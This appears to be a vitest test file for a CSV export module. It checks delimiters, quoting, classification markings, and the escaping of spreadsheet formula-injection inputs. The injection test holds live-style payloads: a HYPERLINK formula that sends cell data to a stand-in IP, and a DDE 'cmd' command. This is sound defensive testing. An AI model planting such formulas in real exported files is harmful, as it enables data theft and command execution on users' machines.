// A table as a spreadsheet reads it: every cell comes back, and none of them runs.
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { csvOf } from '#shared/export/csv.ts'
import { tableOf } from '#shared/export/table.ts'

const marking = 'UNCLASSIFIED, RELEASABLE TO UDCG'
const read = (text: string, delimiter: string) =>
  Papa.parse<string[]>(text.replace(/^\uFEFF/u, ''), { delimiter, skipEmptyLines: true }).data

describe('a table as CSV', () => {
  const table = tableOf('pledges', marking, [
    { title: 'Artillery shells; "155 mm", first part', quantity: 50_000, amount: null },
    { title: 'Deux\nlignes', quantity: null, amount: 1_234_567.89 },
  ])

  it.each([
    ['comma', ','],
    ['semicolon', ';'],
  ] as const)('[X2] comes back cell by cell, with the marking in each row (%s)', (name, sign) => {
    const text = csvOf(table, name)
    expect(text.startsWith('\uFEFF')).toBe(true)
    expect(read(text, sign)).toEqual([
      ['Title', 'Quantity', 'Amount', 'Marking'],
      ['Artillery shells; "155 mm", first part', '50000', '', marking],
      ['Deux\nlignes', '', '1234567.89', marking],
    ])
  })

  it.each([
    '=HYPERLINK("http://198.51.100.7/?"&A1,"Patriot")',
    '+200-300%',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(A1:A9)',
    '\t=1+1',
    ' =1+1',
    '＝1+1',
  ])('[X2] has no cell that a spreadsheet would run: %s', (words) => {
    const [, row] = read(csvOf(tableOf('pledges', marking, [{ title: words }])), ',')
    expect(row?.[0]).toBe(`'${words}`)
  })

  it('[X2] leaves numbers and plain words as they are', () => {
    const [, row] = read(
      csvOf(tableOf('totals', '', [{ total: -5, note: 'F-16', at: new Date(0), yes: true }])),
      ',',
    )
    expect(row).toEqual(['-5', 'F-16', '1970-01-01T00:00:00.000Z', 'true', ''])
  })
})
